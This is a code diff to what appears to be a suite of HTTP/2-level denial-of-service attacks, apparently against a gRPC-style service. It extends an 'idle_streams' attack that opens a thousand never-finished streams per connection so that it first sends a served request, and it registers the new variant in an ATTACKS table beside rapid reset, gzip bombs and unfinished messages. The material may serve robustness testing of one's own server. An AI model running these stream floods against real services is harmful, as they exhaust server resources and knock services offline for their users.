@@ -151,15 +151,18 @@ def rapid_reset(endpoint, count):
     return None
 
 
-def idle_streams(path):
+def idle_streams(path, first=b""):
     def attack(endpoint, count):
-        """COUNT streams that are begun and say no more, a thousand to a connection."""
+        """COUNT streams that are begun and say no more, a thousand to a connection, where `first` is sent before them."""
         kept, headers, begun, refused = [], fields(path), 0, 0
         while begun < count and refused < 200:
             try:
                 connection = Connection(endpoint).open()
                 kept.append(connection)
-                parts = [frame(HEADERS, END_HEADERS, connection.next_stream(), block(headers))]
+                stream = connection.next_stream()
+                parts = [frame(HEADERS, END_HEADERS, stream, block(headers))]
+                if first:
+                    parts.append(frame(DATA, END_STREAM, stream, message(first)))
                 parts += [frame(HEADERS, END_HEADERS, connection.next_stream(), named(len(headers))) for _ in range(999)]
                 connection.send(b"".join(parts))
                 begun += 1000
@@ -259,6 +262,8 @@ ATTACKS = {
     "idle_watches": idle_streams(WATCH),
     "idle_reflections": idle_streams(REFLECTION),
     "idle_calls": idle_streams(GENERATE),
+    # Each connection begins with a call that is served.
+    "idle_calls_of_a_caller": idle_streams(GENERATE, b"\x12\x01a\x38\x01"),
     "gzip_bombs": gzip_bombs,
     "unfinished_messages": unfinished_messages,
     "wrong_tokens": wrong_tokens,
